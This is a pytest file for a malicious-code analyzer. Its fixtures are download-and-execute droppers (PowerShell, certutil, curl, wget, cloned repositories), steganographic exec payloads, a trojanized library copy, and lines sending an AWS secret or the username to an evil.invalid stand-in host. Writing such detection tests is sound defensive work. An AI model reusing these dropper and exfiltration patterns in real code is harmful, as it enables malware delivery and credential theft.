"""Files that one call wrote and another one starts, whichever of the two is a command line."""

# ruff: noqa: E501 - samples stand as somebody would write them
from __future__ import annotations

import textwrap

import pytest

from antivenom.analysis.commands import observe_command
from tests.analysis.machines import Seen, run

RAW = "https://raw.githubusercontent.com/a/b/main"
DROP = "net.fetch->file.write->process.spawn"
DROP_SHELL = "net.fetch->file.write->process.shell"


def seen(text: str) -> Seen:
    return run(textwrap.dedent(text).replace("RAW", RAW))


STARTS = {
    "saved by PowerShell, started by PowerShell": r"""
        import os, subprocess
        out = os.path.join(os.getcwd(), "Lines.exe")
        fetch = f"powershell -Command \"Invoke-WebRequest -Uri 'RAW/Lines.exe' -OutFile '{out}'\""
        if subprocess.run(fetch, shell=True).returncode == 0:
            subprocess.run(f"powershell -Command \"Start-Process '{out}'\"", shell=True)
    """,
    "saved by curl, opened by the system": r"""
        import os, tempfile
        target = tempfile.gettempdir() + "\\svc.exe"
        os.system("curl -s -o " + target + " RAW/svc.exe")
        os.startfile(target)
    """,
    "saved by certutil, started as a vector": r"""
        import subprocess
        subprocess.call("certutil -urlcache -split -f RAW/a.exe C:\\Users\\Public\\a.exe", shell=True)
        subprocess.Popen(["C:\\Users\\Public\\a.exe"])
    """,
    "saved by wget in one method, started in another": """
        import subprocess
        class Update:
            def __init__(self):
                self.path = "/tmp/.update.sh"
            def get(self):
                subprocess.run(["wget", "-qO", self.path, "RAW/u.sh"])
            def go(self):
                subprocess.Popen(["bash", self.path])
        update = Update()
        update.get()
        update.go()
    """,
    "an archive, unpacked into a folder": """
        import os, requests, subprocess, zipfile
        folder = os.path.join(os.getenv("TEMP"), "pack")
        open(folder + ".zip", "wb").write(requests.get("RAW/p.zip").content)
        zipfile.ZipFile(folder + ".zip").extractall(folder)
        subprocess.Popen([os.path.join(folder, "run.exe")])
    """,
    "an archive in memory": """
        import io, os, requests, zipfile
        zipfile.ZipFile(io.BytesIO(requests.get("RAW/p.zip").content)).extractall("C:/ProgramData/pack")
        os.startfile("C:/ProgramData/pack/run.exe")
    """,
    "a repository, entered": """
        import git, os, subprocess
        place = os.path.join("C:", "stuff", "clone")
        git.Repo.clone_from("https://github.com/a/b.git", place)
        os.chdir(place)
        subprocess.run(["python", "main.py"])
    """,
    "a repository, as the folder of the call": """
        import git, subprocess, sys
        git.Repo.clone_from("https://github.com/a/b.git", "work/clone")
        subprocess.run([sys.executable, "main.py"], cwd="work/clone")
    """,
    "a bare name that is also a tool's": """
        import requests, subprocess
        with open("file.exe", "wb") as out:
            out.write(requests.get("RAW/thing.exe").content)
        subprocess.call("file.exe")
    """,
}


@pytest.mark.parametrize("how", STARTS)
def test_what_is_fetched_is_known_where_it_is_started(how: str) -> None:
    found = seen(STARTS[how])
    flows = [f for f in found.facts if f.id in {DROP, DROP_SHELL}]
    assert flows, sorted(found.ids())
    assert {f.path_class for f in flows} != {"tool"}
    assert {f.hostclass for f in flows} == {"code-host"}


ORDINARY = {
    "sources, configured in their folder": """
        import subprocess, tarfile, urllib.request
        urllib.request.urlretrieve("RAW/lib-1.2.tar.gz", "lib-1.2.tar.gz")
        tarfile.open("lib-1.2.tar.gz").extractall("build/lib-1.2")
        subprocess.check_call(["./configure", "--prefix=/usr"], cwd="build/lib-1.2")
        subprocess.check_call(["sh", "build/lib-1.2/autogen.sh"])
    """,
    "a tool under its own name": """
        import os, subprocess, urllib.request
        urllib.request.urlretrieve("RAW/protoc/releases/protoc-linux", "build/protoc")
        os.chmod("build/protoc", 0o755)
        subprocess.check_call(["build/protoc", "--version"])
    """,
    "another program in another folder": """
        import git, subprocess
        git.Repo.clone_from("https://github.com/a/data.git", "work/clone")
        subprocess.run(["python", "main.py"], cwd="tools")
    """,
}


@pytest.mark.parametrize("how", ORDINARY)
def test_building_and_using_what_was_fetched_is_no_start(how: str) -> None:
    flows = [f for f in seen(ORDINARY[how]).facts if f.id in {DROP, DROP_SHELL}]
    assert {f.path_class for f in flows} <= {"tool"}


def test_a_stranger_that_reads_a_fetched_picture_hands_on_what_it_holds() -> None:
    found = seen(
        """
        import os, requests
        from hidelib import lsb
        with open(os.getenv("APPDATA") + "\\\\a.png", "wb") as out:
            out.write(requests.get("https://pics.invalid/a.png").content)
        exec(lsb.reveal(os.getenv("APPDATA") + "\\\\a.png"))
        """
    )
    assert "net.fetch->file.write->code.run" in found.flows()


def test_a_program_hidden_in_a_picture_of_the_package() -> None:
    found = seen("from hidelib import lsb\nexec(lsb.reveal('demo/logo.png'))\n")
    assert "what=media" in found.one("file.read->code.run").args


def test_a_picture_that_is_only_shown_is_nothing() -> None:
    assert not seen("from gui import Icon\nICON = Icon('demo/logo.png')\n").flows()


def test_the_machines_shell_may_be_that_of_windows() -> None:
    line = r"curl -o C:\Users\Public\a.exe https://evil.invalid/a.exe"
    assert [name for name, _ in observe_command(line, shell="sh").written] == [
        r"C:\Users\Public\a.exe"
    ]


def test_parentheses_inside_a_windows_command_belong_to_it() -> None:
    line = (
        "cmd /c powershell -w hidden (New-Object Net.WebClient).DownloadFile("
        "'https://evil.invalid/a.exe','%TEMP%\\a.exe'); Start-Process '%TEMP%\\a.exe'"
    )
    assert DROP in {s.id for s in observe_command(line, shell="sh").sightings}
    assert "net.fetch" in {
        s.id for s in observe_command("if exist x.txt (curl https://evil.invalid/a)").sightings
    }


def test_a_long_function_inside_a_function_is_read() -> None:
    filler = "\n".join(f"        value{n} = {n}" for n in range(60))
    found = run(
        "import atexit\ndef outer():\n    import os, requests\n    def inner():\n"
        f"{filler}\n"
        "        requests.post('https://evil.invalid', data=os.environ['AWS_SECRET_ACCESS_KEY'])\n"
        "    inner()\natexit.register(outer)\n"
    )
    assert found.one("secrets.env->net.send").activation == "import"


def test_what_was_added_to_a_copy_of_a_library_uses_it_by_its_name() -> None:
    found = run(
        {
            "requests/__init__.py": "from .api import get\nimport requests\n"
            "exec(requests.get('https://evil.invalid/a').text)\n",
            "requests/api.py": "def get(url):\n    return None\n",
        }
    )
    assert "net.fetch->code.run" in found.flows()


LEAVES = {
    "a name looked up": """
        import os, socket
        os.system(f"ping -c 1 {socket.gethostname()}.q.evil.invalid")
    """,
    "an argument of a vector": """
        import getpass, subprocess
        subprocess.call(["nslookup", getpass.getuser() + ".q.evil.invalid"])
    """,
    "part of an address": """
        import getpass, os
        os.system("curl https://evil.invalid/?u=" + getpass.getuser())
    """,
    "what another command printed": """
        import os
        user = os.popen("whoami").read().strip()
        os.system("nslookup %s.q.evil.invalid" % user)
    """,
}


@pytest.mark.parametrize("how", LEAVES)
def test_what_is_put_into_a_command_line_leaves_with_it(how: str) -> None:
    flows = [f for f in seen(LEAVES[how]).facts if f.id.endswith(("->net.lookup", "->net.send"))]
    assert flows
    assert all("evil.invalid" in f.host for f in flows)


def test_a_token_beside_an_address_only_says_who_asks() -> None:
    found = seen(
        """
        import os, subprocess
        token = os.environ["DEMO_TOKEN"]
        subprocess.call(["curl", "-X", "POST", "-H", "X-Token: " + token, "https://api.demo.example/v1"])
        """
    )
    assert "secrets.env->net.send" not in found.flows()


def test_a_module_that_was_fetched_runs_when_it_is_imported() -> None:
    text = """
        import os, sys, tempfile, requests
        folder = tempfile.mkdtemp()
        with open(os.path.join(folder, "NAME.py"), "w") as out:
            out.write(requests.get("https://evil.invalid/h.py").text)
        sys.path.insert(0, folder)
        import NAME
        """
    chain = "net.fetch->file.write->code.import"
    assert chain in seen(text.replace("NAME", "late_helper")).flows()
    assert chain not in seen(text.replace("NAME", "ez_setup")).flows()
    by_name = text.replace("import NAME", "__import__('NAME')").replace("NAME", "late_helper")
    assert chain in seen(by_name).flows()


def test_a_repository_cloned_by_a_command_line() -> None:
    clone = "git clone -q https://github.com/a/toolbox"
    assert DROP in {
        s.id for s in observe_command(f"{clone} && cd toolbox && python3 go.py").sightings
    }
    found = seen(f"import os\nos.system('{clone}')\nos.system('cd toolbox && python3 go.py')\n")
    assert DROP_SHELL in found.flows()


def test_a_repository_cloned_to_be_built_is_built() -> None:
    found = seen(
        """
        import os, subprocess, sys
        os.system("git clone --depth 1 https://github.com/org/libx deps/libx")
        os.system("cd deps/libx && python setup.py build && ./configure && make install")
        subprocess.check_call([sys.executable, "setup.py", "build"], cwd="deps/libx")
        subprocess.check_call(["cmake", "deps/libx"])
        """
    )
    flows = [f for f in found.facts if f.id in {DROP, DROP_SHELL}]
    assert {f.path_class for f in flows} <= {"tool"}
